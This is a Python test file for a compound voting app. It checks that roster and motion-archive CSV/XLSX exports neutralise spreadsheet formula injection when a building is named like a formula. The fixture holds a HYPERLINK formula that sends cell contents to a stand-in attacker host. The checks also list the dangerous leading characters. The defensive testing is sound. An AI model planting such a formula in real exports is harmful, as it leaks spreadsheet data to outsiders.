"""Formula injection (issue 10, item 6): a building named like a formula comes out defused in every
CSV/XLSX export: the roster, and a motion's archive in both forms (by room once an open motion is
counted; roll and ballots apart before)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.models import Building

from .conftest import World

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


async def _evil_building(world: World) -> None:
    building = await Building.filter(compound=world.compound).order_by("id").first()
    assert building is not None
    building.name = EVIL
    await building.save(update_fields=["name"])


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


async def test_roster_export_defuses_a_formula_building(world: World) -> None:
    await _evil_building(world)
    response = await world.api.get(
        f"/api/v1/admin/compounds/{world.compound.id}/roster.csv", headers=world.chair
    )
    assert response.status_code == 200
    cells = _csv_cells(response.content)
    assert "'" + EVIL in cells and EVIL not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("counted", [False, True], ids=["while_open", "counted"])
async def test_motion_archives_defuse_a_formula_building(world: World, counted: bool) -> None:
    await _evil_building(world)
    motion_id = await world.open()
    (item,) = await world.item_ids(motion_id)
    for owner_id in (await world.on_roll(motion_id))[:3]:
        assert (await world.cast(motion_id, owner_id, {str(item): "agree"})).status_code == 201
    if counted:
        await world.count(motion_id)
    base = f"{world.admin}/{motion_id}"

    archive_csv = await world.api.get(f"{base}/archive.csv", headers=world.chair)
    cells = _csv_cells(archive_csv.content)
    evil_cells = [c for c in cells if EVIL in c]
    assert evil_cells and all(c.startswith("'=") for c in evil_cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    archive_xlsx = await world.api.get(f"{base}/archive.xlsx", headers=world.chair)
    sheet = load_workbook(io.BytesIO(archive_xlsx.content)).active
    assert sheet is not None
    xlsx_cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in xlsx_cells} == {"s"}  # no formula cell at all
    evil = [c for c in xlsx_cells if str(c.value).startswith(EVIL[:10])]
    assert evil and all(c.quotePrefix for c in evil)
